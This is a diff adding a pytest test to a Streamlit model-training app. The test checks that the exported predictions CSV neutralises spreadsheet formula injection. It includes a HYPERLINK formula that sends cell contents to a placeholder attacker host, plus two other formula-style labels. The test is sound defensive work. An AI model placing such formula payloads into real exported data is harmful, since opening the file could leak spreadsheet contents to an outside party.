@@ -2,10 +2,17 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
+from sklearn.datasets import load_iris
 from streamlit.testing.v1 import AppTest
 
-from pipeline.engines import device_status
+from pipeline.data.catalog import Catalog
+from pipeline.data.io import Source
+from pipeline.data.loading import load_file
+from pipeline.engines import available_engines, device_status
 from tests.support.apptest import open_page, problems
 
 
@@ -127,3 +134,22 @@ def test_ids_and_free_text_are_left_out_and_the_features_survive_a_task_change()
     at.radio(key="model_task").set_value("clustering").run()
     at.selectbox(key="model_labels_clustering").set_value("churned").run()
     assert at.multiselect(key="model_features_churned").value == ["age"], "the choice is kept across tasks"
+
+
+def test_the_predictions_csv_opens_as_data_in_a_spreadsheet(downloads):
+    link = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    iris = load_iris(as_frame=True).frame
+    iris["target"] = iris["target"].map({0: link, 1: "@SUM(1+1)", 2: "-2+3"})
+    buffer = io.BytesIO()
+    iris.to_parquet(buffer)
+    catalog = Catalog()
+    load_file(catalog, Source.from_bytes("flowers.parquet", buffer.getvalue()), available_engines())
+    at = open_page("pages/models.py", catalog)
+    assert at.selectbox(key="model_target_classification").value == "target"
+    at.button(key="model_go").click().run()
+    assert not problems(at)
+    rows = list(csv.reader(io.StringIO(downloads.data(at, "model_predictions").decode(), newline="")))
+    assert rows[0][:2] == ["actual", "cpu prediction"]
+    written = {cell for row in rows[1:] for cell in row}
+    assert {"'" + link, "'@SUM(1+1)", "'-2+3"} <= written, "the labels are written as text"
+    assert not written & {link, "@SUM(1+1)", "-2+3"}, "no label is written as a formula"
